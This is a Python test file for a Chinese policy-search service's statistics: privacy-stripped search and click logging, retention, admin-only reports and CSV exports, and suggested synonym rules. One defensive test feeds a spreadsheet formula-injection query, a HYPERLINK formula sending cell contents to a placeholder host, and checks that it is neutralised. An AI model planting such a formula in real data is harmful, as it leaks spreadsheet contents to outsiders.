"""Search statistics on both stores: each search and each click on a result recorded
without anything personal, the figures staff read (`policy-search stats`, /admin/stats and
its CSV files), retention, the short forms proposed from queries that found nothing and
accepted in one command, and a search never failing for them."""

from __future__ import annotations

import contextlib
import csv
import io
import json
import re
import sqlite3
import time
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pytest
from fastapi.testclient import TestClient
from support.processes import exit_codes_at_once

from analyzers.synonyms import add_synonym, read_synonyms
from policy_search.cli import main
from policy_search.keys import KeyStore, Scope
from policy_search.settings import Settings, get_settings
from policy_search.stats.candidates import candidate_for, propose
from policy_search.stats.report import report as stats_report
from search_api import create_app


@pytest.fixture
def service(sample_store, tmp_path):
    settings = Settings(stats_file=str(tmp_path / "stats.db"), keys_file=str(tmp_path / "keys.db"))
    client = TestClient(create_app(settings, store=sample_store))
    client.stats, client.stats_file = client.app.state.search_stats, tmp_path / "stats.db"
    return client


def rows(client) -> list[dict]:
    client.stats.flush()
    with sqlite3.connect(client.stats_file) as connection:
        connection.row_factory = sqlite3.Row
        return [dict(row) for row in connection.execute("SELECT * FROM searches ORDER BY rowid")]


def test_each_search_is_recorded_as_understood_with_where_it_came_from(service):
    personal = {"User-Agent": "Mozilla/5.0 (Secret Phone)", "Cookie": "session=s3cr3t-cookie",
                "X-Forwarded-For": "203.0.113.77"}
    service.get("/api/v1/search", params={"q": "  政務公開  ", "issuer": "莆田市人民政府办公室", "current": "true"},
                headers=personal)
    service.get("/", params={"q": "城乡规划"}, headers=personal)
    service.get("/api/v1/search", params={"q": "城乡规划"},
                headers={**personal, "Origin": "https://www.example.gov.cn"})
    service.get("/api/v1/search", params={"q": "不存在的词语组合"})
    service.get("/api/v1/search", params={"q": "x", "date_from": "bad"})  # refused: no search
    recorded = rows(service)
    assert [(r["query"], r["source"], r["origin"]) for r in recorded] == [
        ("政务公开", "api", None), ("城乡规划", "page", None),
        ("城乡规划", "widget", "https://www.example.gov.cn"), ("不存在的词语组合", "api", None)]
    assert json.loads(recorded[0]["filters"]) == {"issuer": ["莆田市人民政府办公室"], "current": True}
    assert recorded[1]["results"] == 3 and recorded[3]["results"] == 0  # the three versions of the law
    assert all(r["took_ms"] >= 0 and r["page"] == 1 for r in recorded)
    stored = b"".join(path.read_bytes() for path in service.stats_file.parent.glob("stats.db*"))
    for secret in ("Secret Phone", "s3cr3t-cookie", "203.0.113.77", "testclient"):
        assert secret.encode() not in stored


def test_stats_show_top_queries_and_queries_without_results(service, capsys):
    for q in ["城乡规划"] * 3 + ["政务公开"] * 2 + ["没有结果的查询"] * 2 + ["另一个没有结果的词"] + [""]:
        service.get("/api/v1/search", params={"q": q})
    service.get("/api/v1/search", params={"q": "政务公开", "page": 2})  # a page turned: no new search
    service.stats.flush()
    report = stats_report(service.stats, days=30)
    assert report.searches == 9 and report.zero_result_searches == 3
    assert [(row.query, row.searches) for row in report.top] == [
        ("城乡规划", 3), ("政务公开", 2), ("没有结果的查询", 2), ("另一个没有结果的词", 1)]
    assert [(row.query, row.searches) for row in report.zero_results] == [("没有结果的查询", 2), ("另一个没有结果的词", 1)]
    out = io.StringIO()
    with contextlib.redirect_stdout(out):
        assert main(["stats", "--days", "30", "--stats-file", str(service.stats_file)]) == 0
    text = out.getvalue()
    assert "9 searches, 3 with no result" in text
    top, zero = text.split("queries with no result:")
    zero = zero.split("queries with results but no click:")[0]
    assert top.index("城乡规划") < top.index("政务公开") and "没有结果的查询" in zero and "城乡规划" not in zero
    out = io.StringIO()
    with contextlib.redirect_stdout(out):
        main(["stats", "--json", "--stats-file", str(service.stats_file)])
    assert json.loads(out.getvalue())["top"][0] == {"query": "城乡规划", "searches": 3, "results": 3}


def test_searches_past_the_retention_are_removed(service):
    service.get("/api/v1/search", params={"q": "城乡规划"})
    service.stats.flush()
    old = (datetime.now(UTC) - timedelta(days=181)).isoformat(timespec="seconds")
    recent = (datetime.now(UTC) - timedelta(days=179)).isoformat(timespec="seconds")
    with sqlite3.connect(service.stats_file) as connection:
        connection.executemany("INSERT INTO searches (at, query, filters, results, took_ms, page, source) "
                               "VALUES (?, ?, '{}', 1, 1, 1, 'api')",
                               [(old, "旧的查询"), (recent, "近的查询")])
    assert service.stats.retention_days == 180  # the default
    assert service.stats.purge() == 1
    assert {r["query"] for r in rows(service)} == {"城乡规划", "近的查询"}
    assert [row.query for row in stats_report(service.stats, days=7).top] == ["城乡规划"]


def test_recording_off_or_failing_never_costs_a_search(sample_store, tmp_path):
    off = TestClient(create_app(Settings(search_stats=False, stats_file=str(tmp_path / "off.db")), store=sample_store))
    assert off.get("/api/v1/search", params={"q": "城乡规划"}).status_code == 200
    assert not (tmp_path / "off.db").exists()
    blocked = tmp_path / "a-file"
    blocked.write_text("not a folder")
    broken = TestClient(create_app(Settings(stats_file=str(blocked / "stats.db")), store=sample_store))
    assert broken.get("/api/v1/search", params={"q": "城乡规划"}).status_code == 200
    broken.app.state.search_stats.flush()  # says so in the log, raises nothing
    assert broken.get("/", params={"q": "城乡规划"}).status_code == 200


# --- clicks ---------------------------------------------------------------------------------

PERSONAL = {"User-Agent": "Mozilla/5.0 (Secret Phone)", "Cookie": "session=s3cr3t-cookie",
            "X-Forwarded-For": "203.0.113.77", "Referer": "https://www.example.gov.cn/private?user=zhang"}


def clicks(client) -> list[dict]:
    client.stats.flush()
    with sqlite3.connect(client.stats_file) as connection:
        connection.row_factory = sqlite3.Row
        return [dict(row) for row in connection.execute("SELECT * FROM clicks ORDER BY rowid")]


def search(client, q: str, **params) -> dict:
    answer = client.get("/api/v1/search", params={"q": q, **params})
    assert answer.status_code == 200
    return answer.json()


def click(client, body: dict, as_text: bool = False, **headers):
    content = json.dumps(body, ensure_ascii=False).encode()
    kind = "text/plain;charset=UTF-8" if as_text else "application/json"  # text: navigator.sendBeacon
    return client.post("/api/v1/clicks", content=content, headers={"Content-Type": kind, **headers})


def test_a_click_is_recorded_with_its_search_and_position_and_nothing_personal(service):
    found = search(service, "城乡规划", size=2)
    assert re.fullmatch(r"[0-9a-f]{32}", found["search_id"])
    assert search(service, "城乡规划")["search_id"] != found["search_id"]  # one id a search, not a visitor
    second = found["results"][1]["id"]
    answer = click(service, {"search_id": found["search_id"], "doc_id": second, "position": 2, "source": "api"},
                   **PERSONAL)
    assert answer.status_code == 204
    turned = search(service, "城乡规划", size=2, page=2)
    third = turned["results"][0]["id"]
    beacon = {"search_id": turned["search_id"], "doc_id": third, "position": 3, "source": "widget"}
    assert click(service, beacon, as_text=True, Origin="https://www.example.gov.cn", **PERSONAL).status_code == 204
    recorded = clicks(service)
    assert [(r["search_id"], r["doc_id"], r["position"], r["source"]) for r in recorded] == [
        (found["search_id"], second, 2, "api"), (turned["search_id"], third, 3, "widget")]
    assert set(recorded[0]) == {"at", "search_id", "doc_id", "position", "source"}
    searches = {row["search_id"]: row for row in rows(service)}
    assert searches[turned["search_id"]]["query"] == "城乡规划" and searches[turned["search_id"]]["page"] == 2
    stored = b"".join(path.read_bytes() for path in service.stats_file.parent.glob("stats.db*"))
    for secret in ("Secret Phone", "s3cr3t-cookie", "203.0.113.77", "user=zhang", "testclient"):
        assert secret.encode() not in stored


def test_the_search_page_gives_its_results_the_search_id(service):
    page = service.get("/", params={"q": "城乡规划"}).text
    search_id = re.search(r'class="result-list" start="1" data-search-id="([0-9a-f]{32})"', page).group(1)
    assert [(row["search_id"], row["source"]) for row in rows(service)] == [(search_id, "page")]
    assert 'data-id="law-2025"' in page


@pytest.mark.parametrize(("body", "named"), [
    ({"search_id": "not-an-id", "doc_id": "law-2025", "position": 1, "source": "page"}, "search_id"),
    ({"search_id": "a" * 32, "doc_id": "law-2025", "position": 0, "source": "page"}, "position"),
    ({"search_id": "a" * 32, "doc_id": "law-2025", "position": 1, "source": "email"}, "source"),
    ({"search_id": "a" * 32, "doc_id": "", "position": 1, "source": "page"}, "doc_id"),
    ({"search_id": "a" * 32, "doc_id": "law-2025", "position": 1, "source": "page", "visitor": "x"}, "visitor"),
    ({"search_id": "a" * 32, "position": 1, "source": "page"}, "doc_id"),
])
def test_a_bad_click_is_refused_naming_what_is_wrong(service, body, named):
    answer = click(service, body)
    assert answer.status_code == 422
    assert answer.json()["error"]["code"] == "invalid_parameter" and named in answer.json()["error"]["message"]
    assert clicks(service) == []


def test_a_click_that_is_no_json_too_large_or_of_another_type_is_refused(service):
    found = search(service, "城乡规划")
    not_json = service.post("/api/v1/clicks", content=b"{search_id", headers={"Content-Type": "text/plain"})
    assert not_json.status_code == 422 and "JSON" in not_json.json()["error"]["message"]
    large = {"search_id": found["search_id"], "doc_id": "x" * 2000, "position": 1, "source": "page"}
    assert click(service, large).status_code == 413
    assert service.post("/api/v1/clicks", content=b"search_id=1", headers={
        "Content-Type": "application/x-www-form-urlencoded"}).status_code == 415
    assert clicks(service) == []


def test_clicks_are_rate_limited_per_client(sample_store, tmp_path):
    app = create_app(Settings(stats_file=str(tmp_path / "stats.db"), rate_limit_clicks=3, rate_limit_loopback=True),
                     store=sample_store)
    client = TestClient(app, client=("203.0.113.9", 50000))
    body = {"search_id": "b" * 32, "doc_id": "law-2025", "position": 1, "source": "page"}
    statuses = [click(client, body).status_code for _ in range(5)]
    assert statuses == [204, 204, 204, 429, 429]
    assert click(client, body).headers["Retry-After"]


def _insert(client, searches: list[tuple], clicked: list[tuple] = ()) -> None:
    """Rows as the recorder writes them: (at, query, results, page, size, search_id) and
    (at, search_id, doc_id, position)."""
    client.stats.flush()
    with sqlite3.connect(client.stats_file) as connection:
        connection.executemany("INSERT INTO searches (at, query, filters, results, took_ms, page, source, size, "
                               "search_id) VALUES (?, ?, '{}', ?, 3, ?, 'page', ?, ?)", searches)
        connection.executemany("INSERT INTO clicks VALUES (?, ?, ?, ?, 'page')", clicked)


def _days_ago(days: int, hours: int = 0) -> str:
    return (datetime.now(UTC) - timedelta(days=days, hours=hours)).isoformat(timespec="seconds")


def test_click_through_by_position_queries_without_clicks_and_days(service):
    a, b, c, d = (f"{n}" * 32 for n in "abcd")
    _insert(service, [
        (_days_ago(2), "城乡规划", 25, 1, 10, a), (_days_ago(2), "城乡规划", 25, 2, 10, b),
        (_days_ago(1), "城乡规划", 25, 1, 10, c), (_days_ago(1), "政务公开", 3, 1, 10, d),
        (_days_ago(1), "没有结果的查询", 0, 1, 10, "e" * 32),
    ], [
        (_days_ago(2), a, "law-2025", 1), (_days_ago(2), a, "law-2025", 1),  # clicked twice: one search
        (_days_ago(2), b, "law-2020", 12), (_days_ago(1), c, "law-2020", 2),
        (_days_ago(1), "f" * 32, "law-2025", 1),  # no search of the period has this id
    ])
    report = stats_report(service.stats, days=30)
    # of the four first pages, a and c were clicked (b is a's second page)
    assert report.searches == 4 and report.clicks == 4 and report.clicked_searches == 2
    rates = {rate.position: rate for rate in report.positions}
    # positions 1-10: the three first pages (all of 25 results); 11-20: the page turned
    assert (rates[1].shown, rates[1].clicked, rates[1].clicks) == (3, 1, 2)
    assert (rates[2].shown, rates[2].clicked) == (3, 1) and rates[2].rate == pytest.approx(1 / 3)
    assert (rates[4].shown, rates[4].clicked) == (2, 0)  # 政务公开 showed only 3
    assert (rates[12].shown, rates[12].clicked) == (1, 1)
    assert [row.query for row in report.no_click] == ["政务公开"]  # results, none clicked; none: not here
    local = {days: (datetime.now(UTC) - timedelta(days=days)).astimezone().date().isoformat() for days in (1, 2)}
    by_day = {day.day: (day.searches, day.zero_result_searches, day.clicks) for day in report.by_day}
    assert by_day == {local[2]: (1, 0, 3), local[1]: (3, 1, 1)}


def test_clicks_past_the_retention_are_removed(service):
    _insert(service, [(_days_ago(181), "旧的查询", 5, 1, 10, "a" * 32), (_days_ago(3), "近的查询", 5, 1, 10, "b" * 32)],
            [(_days_ago(181), "a" * 32, "law-2025", 1), (_days_ago(3), "b" * 32, "law-2025", 1)])
    assert service.stats.purge() == 2  # a search and a click
    assert [(r["search_id"], r["at"][:10]) for r in clicks(service)] == [("b" * 32, _days_ago(3)[:10])]
    assert stats_report(service.stats, days=365).clicks == 1


def test_an_old_statistics_file_gains_the_new_columns(tmp_path, sample_store):
    path = tmp_path / "old.db"
    with sqlite3.connect(path) as connection:  # the file as the first version wrote it
        connection.execute("CREATE TABLE searches (at TEXT NOT NULL, query TEXT NOT NULL, filters TEXT NOT NULL, "
                           "results INTEGER NOT NULL, took_ms INTEGER NOT NULL, page INTEGER NOT NULL, "
                           "source TEXT NOT NULL, origin TEXT)")
        connection.execute("INSERT INTO searches VALUES (?, '城乡规划', '{}', 3, 1, 1, 'api', NULL)", (_days_ago(1),))
    client = TestClient(create_app(Settings(stats_file=str(path)), store=sample_store))
    client.stats, client.stats_file = client.app.state.search_stats, path
    search(client, "城乡规划")
    assert [row["size"] for row in rows(client)] == [None, 10]
    assert [row.searches for row in stats_report(client.stats).top] == [2]


# --- the admin page and CSV -----------------------------------------------------------------

@pytest.fixture
def staffed(service):
    """The service with a write key and an admin key."""
    keys = KeyStore(service.app.state.settings.keys_file)
    service.tokens = {scope.value: keys.create(scope)[1] for scope in Scope}
    return service


def bearer(client, scope: str) -> dict[str, str]:
    return {"Authorization": f"Bearer {client.tokens[scope]}"}


def _searched_and_clicked(client) -> None:
    for q in ["城乡规划"] * 3 + ["政务公开", "城规法", "城规法", "不存在的词语组合"]:
        found = search(client, q)
    first = search(client, "城乡规划")
    click(client, {"search_id": first["search_id"], "doc_id": first["results"][0]["id"], "position": 1,
                   "source": "page"})
    assert found["total"] == 0
    client.stats.flush()


@pytest.mark.parametrize("path", ["/admin/stats", "/admin/stats.csv?table=top"])
def test_the_statistics_need_an_admin_key(staffed, path):
    refused = staffed.get(path)
    assert refused.status_code == 401 and refused.headers["WWW-Authenticate"].startswith("Bearer")
    assert "API key" in refused.json()["error"]["message"]
    assert staffed.get(path, headers={"Authorization": "Bearer ps_nothing_0123456789abcdefghijkl"}).status_code == 401
    wrong = staffed.get(path, headers=bearer(staffed, "write"))
    assert wrong.status_code == 403 and "admin" in wrong.json()["error"]["message"]
    assert staffed.get(path, headers=bearer(staffed, "admin")).status_code == 200


def test_the_admin_page_shows_the_figures_in_chinese(staffed):
    _searched_and_clicked(staffed)
    page = staffed.get("/admin/stats", params={"days": 7}, headers=bearer(staffed, "admin"))
    assert page.headers["content-type"].startswith("text/html") and page.headers["cache-control"] == "no-store"
    html = page.text
    assert "检索统计：最近 7 天" in html and '<dd id="searches">8</dd>' in html and '<dd id="clicks">1</dd>' in html
    sections = {name: html.split(f'id="{name}"', 1)[1].split("</section>", 1)[0]
                for name in ("top", "zero", "no_click", "positions", "days", "candidates")}
    assert sections["top"].index("城乡规划") < sections["top"].index("城规法")
    assert "城规法" in sections["zero"] and "城乡规划" not in sections["zero"]
    assert "政务公开" in sections["no_click"] and "城乡规划" not in sections["no_click"]
    assert "<tr><td>1</td><td>5</td><td>1</td><td>20.0%</td><td>1</td></tr>" in sections["positions"]  # 1 of 5 shown
    assert "城规法 =&gt; 城乡规划示范法" in sections["candidates"]
    assert "policy-search stats accept &#39;城规法&#39;" in sections["candidates"]  # quoted for the shell
    assert "不存在的词语组合" not in sections["candidates"]
    assert staffed.get("/admin/stats", params={"days": 0}, headers=bearer(staffed, "admin")).status_code == 422


def _csv(answer) -> list[list[str]]:
    assert answer.status_code == 200, answer.text
    assert answer.headers["content-type"].startswith("text/csv")
    assert answer.content.startswith("\ufeff".encode())  # for spreadsheet programs to read it as UTF-8
    return list(csv.reader(io.StringIO(answer.content.decode("utf-8-sig"))))


def test_every_table_is_a_csv_file(staffed):
    _searched_and_clicked(staffed)
    admin = bearer(staffed, "admin")

    def table(name: str) -> list[list[str]]:
        answer = staffed.get("/admin/stats.csv", params={"table": name}, headers=admin)
        assert f"search-stats-{name}-30d.csv" in answer.headers["content-disposition"]
        return _csv(answer)

    assert table("top")[:3] == [["检索词", "检索次数", "最近一次的结果数"], ["城乡规划", "4", "3"], ["城规法", "2", "0"]]
    assert [row[0] for row in table("zero")[1:]] == ["城规法", "不存在的词语组合"]
    assert [row[0] for row in table("no_click")[1:]] == ["政务公开"]
    positions = table("positions")
    assert positions[0][0] == "位置" and positions[1] == ["1", "5", "1", "20.0%", "1"]
    today = datetime.now(UTC).astimezone().date().isoformat()
    assert table("days")[1:] == [[today, "8", "3", "1"]]
    candidates = table("candidates")
    assert candidates[1][:2] == ["城规法", "城规法 => 城乡规划示范法"]
    unknown = staffed.get("/admin/stats.csv", params={"table": "people"}, headers=admin)
    assert unknown.status_code == 422 and "table" in unknown.json()["error"]["message"]
    out = io.StringIO()
    with contextlib.redirect_stdout(out):
        assert main(["stats", "--csv", "top", "--stats-file", str(staffed.stats_file)]) == 0
    assert list(csv.reader(io.StringIO(out.getvalue())))[:2] == [["检索词", "检索次数", "最近一次的结果数"], ["城乡规划", "4", "3"]]


# --- short forms proposed and accepted --------------------------------------------------------

def test_short_forms_are_proposed_for_prefixes_and_abbreviations_of_titles(sample_store):
    proposed = {q: candidate_for(sample_store, q) for q in ("城规法", "城乡规划示", "城市房屋拆迁管", "城房拆条例",
                                                             "不存在的词语组合", "个保法", "x")}
    assert (proposed["城规法"].rule, proposed["城规法"].kind) == ("城规法 => 城乡规划示范法", "abbreviation")
    assert proposed["城规法"].title == "中华人民共和国城乡规划示范法"
    assert (proposed["城乡规划示"].rule, proposed["城乡规划示"].kind) == ("城乡规划示 => 城乡规划示范", "prefix")
    assert proposed["城市房屋拆迁管"].rule == "城市房屋拆迁管 => 城市房屋拆迁管理条例"
    assert proposed["城房拆条例"].rule == "城房拆条例 => 城市房屋拆迁管理条例"
    # no title holds it; a short form already (shipped); too short
    assert proposed["不存在的词语组合"] is None and proposed["个保法"] is None and proposed["x"] is None


def test_candidates_come_from_the_queries_with_no_result(service, monkeypatch, tmp_path, capsys):
    _searched_and_clicked(service)
    figures = stats_report(service.stats)
    store = service.app.state.store
    assert [(c.query, c.long, c.searches) for c in propose(store, figures.zero_results)] == [
        ("城规法", "城乡规划示范法", 2)]
    _cli_store(monkeypatch, store, "")
    try:
        assert main(["stats", "--stats-file", str(service.stats_file)]) == 0
        text = capsys.readouterr().out
        assert "8 searches, 3 with no result (38%), 1 clicks on results" in text
        assert text.split("short forms proposed")[1].split("\n")[1].split() == [
            "城规法", "=>", "城乡规划示范法", "(abbreviation:", "中华人民共和国城乡规划示范法)"]
        assert main(["stats", "--json", "--stats-file", str(service.stats_file)]) == 0
        proposed = json.loads(capsys.readouterr().out)["candidates"]
        assert [(c["query"], c["rule"]) for c in proposed] == [("城规法", "城规法 => 城乡规划示范法")]
    finally:
        get_settings.cache_clear()


def _cli_store(monkeypatch, store, synonyms) -> None:
    monkeypatch.setenv("POLICY_SEARCH_STORE", store.url)
    monkeypatch.setenv("POLICY_SEARCH_INDEX", getattr(store, "alias", "policies"))
    monkeypatch.setenv("POLICY_SEARCH_SYNONYMS", str(synonyms))
    get_settings.cache_clear()


def test_an_accepted_short_form_is_written_and_found_by_the_next_search(sample_store, tmp_path, monkeypatch,
                                                                        capsys):
    synonyms = tmp_path / "synonyms.txt"
    synonyms.write_text("# this portal's short forms\n招商法 => 招标投标法", encoding="utf-8")  # no final newline
    _cli_store(monkeypatch, sample_store, synonyms)
    settings = Settings(stats_file=str(tmp_path / "stats.db"), synonyms=str(synonyms), words_check_seconds=0.1)
    client = TestClient(create_app(settings, store=sample_store))
    assert search(client, "城规法")["total"] == 0
    try:
        assert main(["stats", "accept", "城规法"]) == 0
        assert "城规法 => 城乡规划示范法" in capsys.readouterr().out
        lines = synonyms.read_text(encoding="utf-8").splitlines()
        assert lines[:2] == ["# this portal's short forms", "招商法 => 招标投标法"]
        assert lines[2].startswith("城规法 => 城乡规划示范法  # accepted ")
        deadline = time.monotonic() + 15
        while (found := search(client, "城规法"))["total"] == 0 and time.monotonic() < deadline:
            time.sleep(0.1)  # the service looks at the file every 0.1 s and loads it in a thread
        assert found["results"][0]["title"] == "中华人民共和国城乡规划示范法"
        assert main(["stats", "accept", "城规法"]) == 0 and "already in" in capsys.readouterr().out
        assert len(synonyms.read_text(encoding="utf-8").splitlines()) == 3
        assert main(["stats", "accept", "城规法", "--as", "城市规划法"]) == 1
        assert "maps 城规法 to 城乡规划示范法 already" in capsys.readouterr().err
        assert main(["stats", "accept", "不存在的词语组合"]) == 1 and "--as" in capsys.readouterr().err
        assert main(["stats", "accept", "拆迁条例", "--as", "城市房屋拆迁管理条例"]) == 0
        assert synonyms.read_text(encoding="utf-8").splitlines()[3].startswith("拆迁条例 => 城市房屋拆迁管理条例")
    finally:
        get_settings.cache_clear()


def test_accepting_needs_the_deployments_synonym_file(sample_store, monkeypatch, capsys):
    monkeypatch.delenv("POLICY_SEARCH_SYNONYMS", raising=False)
    monkeypatch.setenv("POLICY_SEARCH_STORE", sample_store.url)
    get_settings.cache_clear()
    try:
        assert main(["stats", "accept", "城规法"]) == 2
    finally:
        get_settings.cache_clear()
    assert "POLICY_SEARCH_SYNONYMS" in capsys.readouterr().err


def test_a_statistics_file_that_cannot_be_read_is_said_so(sample_store, tmp_path, capsys):
    broken = tmp_path / "stats.db"
    broken.write_bytes(b"not a database, a file put here by mistake " * 100)
    settings = Settings(stats_file=str(broken), keys_file=str(tmp_path / "keys.db"))
    client = TestClient(create_app(settings, store=sample_store))
    token = KeyStore(settings.keys_file).create(Scope.ADMIN)[1]
    assert client.get("/api/v1/search", params={"q": "城乡规划"}).status_code == 200
    answer = client.get("/admin/stats", headers={"Authorization": f"Bearer {token}"})
    assert answer.status_code == 503 and answer.json()["error"]["code"] == "stats_unavailable"
    assert str(tmp_path) not in answer.text
    assert main(["stats", "--stats-file", str(broken)]) == 3
    assert f"cannot read the statistics file {broken}" in capsys.readouterr().err


def test_what_could_name_a_person_is_masked_and_formulas_are_quoted(staffed):
    """Citizens paste ID-card and phone numbers and e-mail addresses into search boxes: they
    are never recorded. And a query is text in the CSV files, never a spreadsheet formula."""
    for q in ["身份证11010519491231002X丢了怎么补办", "社保咨询 13800138000", "wang.li@example.com 退休",
              '=HYPERLINK("http://x.example/?"&A1,"点此")', "莆政办〔2020〕8号"]:
        staffed.get("/api/v1/search", params={"q": q})
    staffed.app.state.search_stats.flush()
    stored = b"".join(path.read_bytes() for path in staffed.stats_file.parent.glob("stats.db*"))
    for secret in ("11010519491231002", "13800138000", "wang.li@example.com"):
        assert secret.encode() not in stored
    answer = staffed.get("/admin/stats.csv", params={"table": "top"}, headers=bearer(staffed, "admin"))
    queries = [row[0] for row in _csv(answer)[1:]]
    assert "社保咨询 ###########" in queries and "莆政办〔2020〕8号" in queries  # document numbers are kept
    assert not any(query.startswith(("=", "+", "-", "@")) for query in queries)
    assert any(query.startswith("'=hyperlink(") for query in queries)


def _add_rules(path: str, prefix: str, count: int) -> None:
    for number in range(count):
        add_synonym(Path(path), f"{prefix}{number}法", f"{prefix}第{number}号示范法")


def test_short_forms_accepted_at_once_by_two_staff_are_all_kept(tmp_path):
    # two processes each accepting 40 rules into one file: none lost, no half-written file
    path = tmp_path / "synonyms.txt"
    assert exit_codes_at_once(_add_rules, [(str(path), prefix, 40) for prefix in ("甲", "乙")]) == [0, 0]
    rules = read_synonyms(path)
    assert len(rules) == 80
    assert rules["乙39法"] == "乙第39号示范法"
